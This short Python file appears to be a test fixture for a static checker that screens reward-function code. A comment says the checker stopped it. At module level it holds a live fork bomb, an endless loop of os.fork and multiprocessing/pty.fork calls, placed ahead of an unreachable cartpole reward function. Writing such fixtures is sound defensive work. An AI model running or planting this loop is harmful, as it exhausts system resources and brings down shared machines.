# Tries: a fork bomb through os.fork, multiprocessing and pty, at load time.
# Stopped by: static
# ruff: noqa
import multiprocessing
import os
import pty

import numpy as np

while True:
    os.fork()
    multiprocessing.Process(target=pty.fork).start()


def compute_reward(pole_angle):
    return -np.abs(pole_angle), {}
